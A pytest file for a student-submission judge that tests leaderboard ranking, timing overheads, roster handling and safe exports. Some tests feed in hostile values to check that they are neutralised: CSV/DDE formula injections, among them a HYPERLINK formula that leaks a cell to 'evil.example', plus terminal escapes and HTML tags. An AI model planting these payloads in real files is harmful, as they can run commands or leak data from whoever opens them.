def test_language_overheads_are_per_case_and_reach_the_ranking(tmp_path):
    with Store.open(tmp_path / "r.sqlite3") as st:
        run = st.start_run("p", TESTS, 4, "test")
        st.save_reference_times(TESTS, {n: (t + 1.0, t + 2) for n, t in REFERENCE.items()}, 3, "py")
        st.save_overheads(TESTS, "python", {n: 1.0 for n in CASES}, "3")
        st.save_overheads(TESTS, "cpp", {"tiny": 60.0, "big1": 5.0, "big2": 5.0, "big3": 5.0}, "g++")
        record(st, run, "py", "p1", ["AC"] * 4, 1.0, "2026-01-01T00:00:00")
        # C++ whose CPU time is half the reference's net time plus its 5 ms harness overhead
        cases = tuple(CaseResult(n, "secret", Verdict.AC, cpu_ms=REFERENCE[n] * 0.5 + 5.0) for n in CASES)
        st.record(run, SubmissionResult("c.cpp", "/c.cpp", "cpp", Verdict.AC, cases, sha256="c1",
                                        recording=Recording("cpp", False, "2026-01-01T00:00:00", 4, 4)))
        assert leaderboard.language_overheads(st, TESTS) == {"python": {n: 1.0 for n in CASES},
                                                             "cpp": {"tiny": 60.0, "big1": 5.0, "big2": 5.0,
                                                                     "big3": 5.0}}
        entries = leaderboard.rank(st, "p", TESTS)
    # python's CPU time equals the reference's gross time: less its 1 ms, 9/10, 19/20, 39/40 of it
    assert [(e.author, round(e.speed, 2)) for e in entries] == [("cpp", 0.5), ("py", 0.95)]


def test_stale_authors_and_missing_students(tmp_path):
    from judge.results.records import Handin
    from judge.results.roster import Roster, Student

    old, new = "o" * 64, TESTS
    with Store.open(tmp_path / "r.sqlite3") as st:
        first = st.start_run("p", old, 4, "test")
        handed(st, first, "ada", "a1", 1.0, "2026-01-01T00:00:00", Handin("1", "Ada", ""))
        handed(st, first, "bob", "b1", 1.0, "2026-01-01T00:00:00", Handin("2", "Bob", ""))
        second = st.start_run("p", new, 4, "test")
        handed(st, second, "bob", "b2", 1.0, "2026-01-02T00:00:00", Handin("2", "Bob", ""))
        target = leaderboard.locate(st, "p")
        roster = Roster(Path("r.csv"), (Student("1", "ada"), Student("2", "Bob"), Student("3", "Cy", "cy@x")))
        board = leaderboard.build(st, target, roster=roster)
    assert [e.author for e in board.entries] == ["bob"]
    assert [(e.author, e.stale, e.test_set, e.rank) for e in board.stale] == [("ada", True, old, 0)]
    assert [(e.author, e.missing, e.email, e.score) for e in board.missing] == [("Cy", True, "cy@x", 0.0)]
    from judge.results import exports, gradebook

    text = exports.terminal(board)
    assert "stale: 1 author(s) graded only on an older test set (oooooooooooo)" in text and "ada (oooooooooooo)" in text
    assert "missing: 1 roster student(s) without a submission: Cy" in text
    rows = list(csv.DictReader(io.StringIO(exports.to_csv(board))))
    assert [(r["author"], r["status"], r["rank"]) for r in rows] == [("bob", "ranked", "1"), ("ada", "stale", ""),
                                                                     ("Cy", "missing", "")]
    book = list(csv.DictReader(io.StringIO(gradebook.to_csv(board, roster))))
    assert [(r["student_id"], r["name"], r["score"], r["verdict"], r["note"][:5]) for r in book] == [
        ("1", "ada", "4.0", "AC", "stale"), ("2", "Bob", "4.0", "AC", ""), ("3", "Cy", "0.0", "missing", "missi")]


def test_gradebook_neutralises_formulas_and_controls(tmp_path):
    from judge.results import gradebook
    from judge.results.records import Handin

    with Store.open(tmp_path / "r.sqlite3") as st:
        run = st.start_run("p", TESTS, 4, "test")
        handed(st, run, '=HYPERLINK("http://x","y")', "h1", 1.0, "2026-01-01T00:00:00",
               Handin("@1", "+cmd|' /C calc'!A0", "-2+3@x\x1b[2J"))
        board = leaderboard.build(st, leaderboard.locate(st, "p"))
    (row,) = csv.DictReader(io.StringIO(gradebook.to_csv(board)))
    assert row["student_id"] == "'@1" and row["name"].startswith("'+cmd") and row["email"] == "'-2+3@x\\x1b[2J"
    assert row["score"] == "4.0" and row["verdict"] == "AC"


def test_junit_stays_valid_whatever_a_submission_prints():
    """Controls, noncharacters and lone surrogates in what a submission printed or raised: escaped, so the
    file is still XML the xunit schema accepts."""
    import xmlschema

    hostile = "ok\x00\x1b[2J\ufffe\uffff\ud800\u202e<]]>&\nline two"
    cases = (CaseResult("c1", "sample", Verdict.RE, time_ms=1, message=hostile, output=hostile),
             CaseResult("c2", "sample", Verdict.WA, time_ms=1, message="x", diff=(hostile,), output=hostile))
    board = leaderboard.Leaderboard("p", "P", TESTS, [leaderboard.Entry(
        1, hostile, "a.py", "python", Verdict.RE, 0, 2, 0, 2, None, "2024", "s", 1, cases=cases)], ["c1", "c2"], False)
    from judge.results import exports

    text = exports.junit(board)
    xmlschema.XMLSchema(str(ROOT / "tests" / "data" / "junit-10.xsd")).validate(text.encode("utf-8", "strict"))
    assert "\\uffff" in text and "<system-out>" in text and "line two" in text


def test_html_names_stale_and_missing_authors_escaped(tmp_path):
    from judge.results.records import Handin
    from judge.results.roster import Roster, Student

    with Store.open(tmp_path / "r.sqlite3") as st:
        first = st.start_run("p", "o" * 64, 4, "test")
        handed(st, first, "<b>old</b>", "a1", 1.0, "2026-01-01T00:00:00", Handin())
        second = st.start_run("p", TESTS, 4, "test")
        handed(st, second, "bob", "b2", 1.0, "2026-01-02T00:00:00", Handin("2", "Bob", ""))
        roster = Roster(Path("r.csv"), (Student("2", "Bob"), Student("3", "<i>Cy</i>")))
        board = leaderboard.build(st, leaderboard.locate(st, "p"), roster=roster)
    page = report_html.html(board)
    assert 'id="stale"' in page and "&lt;b&gt;old&lt;/b&gt; (<code>oooooooooooo</code>" in page
    assert 'id="missing"' in page and "&lt;i&gt;Cy&lt;/i&gt;" in page and "<i>Cy</i>" not in page


def test_a_roster_given_only_to_the_leaderboard_finds_files_by_name(tmp_path):
    from judge.results import gradebook
    from judge.results.records import Handin
    from judge.results.roster import Roster, Student

    with Store.open(tmp_path / "r.sqlite3") as st:
        run = st.start_run("p", TESTS, 4, "test")
        handed(st, run, "smith_john", "s1", 1.0, "2026-01-01T00:00:00", Handin())  # file smith_john.x
        roster = Roster(Path("r.csv"), (Student("1", "John Smith", file="smith_john.x"), Student("2", "Kim")))
        board = leaderboard.build(st, leaderboard.locate(st, "p"), roster=roster)
    assert [e.author for e in board.missing] == ["Kim"]
    rows = list(csv.DictReader(io.StringIO(gradebook.to_csv(board, roster))))
    assert [(r["student_id"], r["name"], r["verdict"]) for r in rows] == [("1", "John Smith", "AC"),
                                                                          ("2", "Kim", "missing")]


def test_each_case_has_its_own_overhead():
    """A big input costs the harness more than a small one: the overhead taken off is that case's, and a
    case with no measurement of its own takes the median of the measured ones."""
    cases = [CaseResult("small", "secret", Verdict.AC, cpu_ms=11.0),
             CaseResult("big", "secret", Verdict.AC, cpu_ms=30.0)]
    reference = {"small": 10.0, "big": 10.0}
    per_case = {"small": 1.0, "big": 20.0}
    assert leaderboard.speed_ratio(cases, reference, per_case) == pytest.approx(1.0)
    assert leaderboard.speed_ratio(cases, reference, 1.0) == pytest.approx((1.0 + 2.9) / 2)  # one figure: too slow
    assert leaderboard.case_overhead({"a": 1.0, "b": 3.0, "c": 5.0}, "new") == 3.0
    assert leaderboard.case_overhead({}, "new") == 0.0


def test_every_text_cell_of_the_csv_is_kept_from_being_a_formula():
    """Red-team round 9: a worker's (or a hostile store's) sha256, times and test set went into the CSV raw."""
    from judge.results import exports

    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    entry = leaderboard.Entry(1, "a", "a.py", "@SUM(1)", Verdict.AC, 1, 1, 1, 1, None, "+1+1", formula, 1,
                              graded_at="-2+3", test_set="\t=1")
    rows = list(csv.DictReader(io.StringIO(exports.to_csv(leaderboard.Leaderboard("p", "P", TESTS, [entry], [],
                                                                                   False)))))
    for key in ("language", "submitted_at", "sha256", "graded_at", "test_set_hash"):
        assert rows[0][key].startswith("'"), (key, rows[0][key])


def test_authors_named_like_numbers_or_booleans_are_listed_as_written(tmp_path):
    """Review: tabulate 0.9 raised ValueError on an author column holding "True" beside "1.5" (the whole
    leaderboard command failed), and 0.10 drew "1.50" as 1.5."""
    body = (ROOT / "submissions" / "minesweeper" / "accepted" / "bfs_class.py").read_text()
    for name in ("True", "1.50"):
        (tmp_path / f"{name.replace('.', '_')}.py").write_text(f"# author: {name}\n" + body)
    db = tmp_path / "r.sqlite3"
    assert judge("grade", "minesweeper", tmp_path, "--fuzz", "0", "--db", db).returncode == 0
    for fmt in ("terminal", "markdown"):
        for deadline in ((), ("--deadline", "2000-01-01T00:00:00Z")):  # the second draws a `late` column too
            board = judge("leaderboard", "minesweeper", "--db", db, "--format", fmt, *deadline)
            assert board.returncode == 0, board.stderr
            assert " True " in board.stdout and " 1.50 " in board.stdout, board.stdout
            header = next(line for line in board.stdout.splitlines() if "rank" in line and "author" in line)
            assert bool(deadline) == ("late" in header.replace("|", " ").split()), board.stdout


def test_a_case_file_broken_since_grading_still_gives_the_board(tmp_path):
    """Bad-input round 29: one malformed case file (an instructor mid-edit) made every format of the
    leaderboard fail, exit 2, no board: the reference's times were measured outside the guard that a
    problem.yaml typo went through. The board comes, with a warning."""
    from helpers import SUBMISSIONS, copy_problem, run_judge

    package = copy_problem(tmp_path)
    db = tmp_path / "r.sqlite3"
    assert run_judge("grade", package, SUBMISSIONS / "accepted" / "bfs_class.py", "--fuzz", "0",
                     "--db", db).returncode == 0
    (package / "cases" / "secret" / "zz.yaml").write_text("- name: a\n  board: [\n")
    board = run_judge("leaderboard", package, "--db", db, "--format", "csv")
    assert board.returncode == 0 and "bfs_class.py" in board.stdout, board.stderr
